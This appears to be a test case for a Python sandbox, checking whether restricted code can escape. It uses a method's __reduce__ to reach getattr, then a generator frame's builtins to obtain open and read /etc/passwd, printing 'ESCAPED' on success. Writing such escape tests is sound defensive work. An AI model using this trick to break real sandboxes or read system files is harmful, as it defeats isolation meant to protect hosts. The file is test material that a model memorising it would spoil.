# tries: a method's reduce hands out getattr
# class: reduce
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


class C:
    def m(self):
        return None


read = C().m.__reduce__()[0]
frame = read((x for x in ()), "gi_frame")
use(pick(frame))
